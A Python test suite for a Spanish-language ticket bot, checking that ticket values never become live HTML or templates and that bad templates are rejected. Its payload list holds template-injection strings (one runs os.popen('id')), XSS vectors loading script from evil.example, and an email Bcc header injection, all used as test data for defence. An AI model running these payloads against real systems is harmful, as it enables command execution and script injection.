"""Nothing of a ticket becomes markup, and no template reaches beyond its values."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import Any

import pytest
from bs4 import BeautifulSoup

from bot.domain.ticket import Company
from bot.policy import texts
from bot.policy.model import load_policy
from bot.policy.templates import render, template_problem
from bot.policy.verdict import Evidence, TicketField, Verdict

from .desk import MONDAY, URGENT, notes, plan, policy, replies, rules_folder, shipped, ticket

PAYLOADS = {
    "expression": "{{7*7}}",
    "expression spaced": "{{ 7 * 7 }}",
    "statement": "{% for x in [1,2] %}49{% endfor %}",
    "comment": "{# hidden #}",
    "whitespace control": "{%- if true -%}49{%- endif -%}",
    "attribute": "{{ ''.__class__ }}",
    "attribute chain": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "config": "{{ config.items() }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "filter": "{{ 'x'|safe }}",
    "raw": "{% raw %}{{ x }}{% endraw %}",
    "line statement": "# for x in y",
    "unclosed": "{{",
    "unclosed statement": "{% if",
    "format string": "{0.__class__} %s %(x)s ${x}",
    "script": "<script>alert(1)</script>",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "link": "<a href='javascript:alert(1)'>ver</a>",
    "bare javascript": "javascript:alert(1)",
    "data url": "<a href=data:text/html;base64,PHNjcmlwdD4=>ver</a>",
    "iframe": "<iframe src=//evil.example></iframe>",
    "form": "<form action=//evil.example><input name=clave></form>",
    "style": "<style>*{display:none}</style>",
    "style attribute": "<p style='display:none'>oculto</p>",
    "closing tags": "</b></p></ul></body></html>",
    "comment of html": "<!-- <b> -->",
    "cdata": "<![CDATA[<b>]]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entities": "&#60;script&#62;",
    "double quotes": '" onmouseover="alert(1)',
    "single quotes": "' onmouseover='alert(1)",
    "template literal": "`${alert(1)}`",
    "line breaks": "uno\r\nBcc: todos@cliente.example\r\n\r\ncuerpo",
    "null": "uno\x00dos",
    "escape": "\x1b[31mrojo\x1b[0m",
    "bell and backspace": "uno\x07\x08dos",
    "right to left": "\u202egnp.exe",
    "isolates": "\u2066uno\u2069\u200f\u200e\u061c",
    "reference": "Ref. SMF-AAAAAAA234",
    "a megabyte": "<b>" * 350_000,
    "a megabyte of braces": "{{" * 500_000,
    "emoji and tildes": "🔴 ñandú ¿qué?",
}  # fmt: skip

HOSTILE = re.compile(r"<(?!/?(?:p|b|br|ul|li)>)")
DISGUISE = re.compile("[\x00-\x08\x0b-\x1f\x7f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
payloads = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)


def assert_harmless(html: str) -> None:
    assert HOSTILE.search(html) is None
    assert DISGUISE.search(html) is None
    assert len(html) < 25_000
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        assert tag.attrs == {}
    assert html.count("SMF-") - html.count("SMF-AAAAAAA234") == 1, "the reference is the bot's own"


@payloads
def test_in_every_value_of_a_ticket(payload: str) -> None:
    hostile = replace(
        ticket(f"caído {payload}", f"{payload} está caído {payload}"),
        type=payload,
        tags=(payload[:32],),
        requester_email=payload,
        to_emails=(f"x{payload}",),
    )
    planned = plan(hostile, company=Company(1, overdue=True))
    texts_sent = [*notes(planned).values(), *replies(plan(hostile))]
    assert len(texts_sent) == 3
    for html in texts_sent:
        assert_harmless(html)
    assert notes(planned) == notes(plan(ticket("caído"), company=Company(1, overdue=True)))


@payloads
def test_in_the_words_that_decided(payload: str) -> None:
    planned = plan(ticket())
    evidence = Evidence("urg-caido", TicketField.BODY, payload, 0, len(payload), "caid*")
    case = Verdict(planned.level, "urg-caido", ("urg-caido",), (evidence,) * 20)
    html = texts.classification_note(
        policy(), "acelera", planned.decision, case, *_clocks(), changed_from=None, reference="SMF-BBBBBBB234"
    )
    assert_harmless(html)
    shown = BeautifulSoup(html, "html.parser").get_text()
    visible = DISGUISE.sub("", payload)[:2000]
    assert " ".join(visible.split()) in " ".join(shown.split()), "escaped, and still to be read as it was"


def _clocks() -> Any:
    from bot.policy.due import due_clocks

    found = policy()
    return due_clocks(found.levels.URGENTE, found.calendar("acelera"), MONDAY)


@payloads
def test_a_value_is_never_a_template(payload: str) -> None:
    shown = BeautifulSoup(render("<p>{{ x }}</p>", {"x": payload}), "html.parser").get_text()
    assert shown.strip() == DISGUISE.sub("", payload)[:2000].strip()
    nested = render("{% for a in x %}{{ a.b }}{% endfor %}", {"x": [{"b": payload}]})
    assert HOSTILE.search(nested) is None


BAD: list[Any] = [
    pytest.param("{{ nombre }}", "usa «nombre», que no existe; puedes usar: nivel, numero", id="unknown"),
    pytest.param("{{ nivel ", "no se entiende (línea 1 del texto)", id="unclosed"),
    pytest.param("<p>\n{% if nivel %}\n", "no se entiende (línea 2", id="no endif"),
    pytest.param("{{ nivel | no_existe }}", "no se entiende (línea 1", id="unknown filter"),
    pytest.param("{{ nivel is no_existe }}", "no se entiende (línea 1", id="unknown test"),
    pytest.param("{% no_existe %}", "no se entiende (línea 1", id="unknown statement"),
    pytest.param("{{ ''.__class__ }}", "falla al probarla", id="attribute of a constant"),
    pytest.param("{{ nivel.__class__.__mro__ }}", "falla al probarla", id="attribute of a value"),
    pytest.param("{{ nivel.apellido }}", "falla al probarla", id="no such attribute"),
    pytest.param("{{ nivel + 1 }}", "falla al probarla", id="wrong sum"),
    pytest.param("{{ 1 / 0 }}", "falla al probarla", id="division by zero"),
    pytest.param("{{ 1 / numero }}", "falla al probarla", id="division by an empty value"),
    pytest.param("{% if not nivel %}{{ nivel.x }}{% endif %}", "falla al probarla", id="only when empty"),
    pytest.param("{% include 'otra' %}", "falla al probarla", id="include"),
    pytest.param("{% for i in range(9) %}x{% endfor %}", "usa «range», que no existe", id="a global"),
    pytest.param("{{ lipsum() }}", "usa «lipsum», que no existe", id="another global"),
]


@pytest.mark.parametrize(("text", "message"), BAD)
def test_a_bad_template_is_refused_in_spanish(text: str, message: str) -> None:
    problem = template_problem(text, {"nivel": "URGENTE", "numero": 7})
    assert problem is not None
    assert message in problem


@pytest.mark.parametrize("text", ["{{ ''.__class__.__base__ }}", "{{ x.y }}", "{{ x + 1 }}", "{{ 1 / 0 }}"])
def test_a_template_that_slipped_through_ends_in_one_kind_of_error(text: str) -> None:
    with pytest.raises(ValueError, match="template refused"):
        render(text, {"x": "a"})


@pytest.mark.parametrize(
    ("file", "old"),
    [("notas", "{{ texto }}"), ("notas", "{{ version }}"), ("respuestas", "{{ promesa }}")],
)
def test_rule_files_with_a_bad_template_are_refused_with_file_and_line(file: str, old: str) -> None:
    text = shipped(file)
    assert old in text
    with rules_folder(**{file: text.replace(old, "{{ apellido }}", 1)}) as folder:
        found, problems = load_policy(folder)
    assert found is None
    assert [p.file for p in problems] == [f"{file}.yaml"]
    assert "usa «apellido», que no existe" in problems[0].message
    first = text[: text.index(old)].count("\n") + 1
    assert 1 < problems[0].line <= first, "the line where the template begins"


def test_shipped_templates_take_every_value_that_is_sure_to_exist() -> None:
    assert "caído" in next(iter(notes(plan(ticket(body=URGENT))).values()))
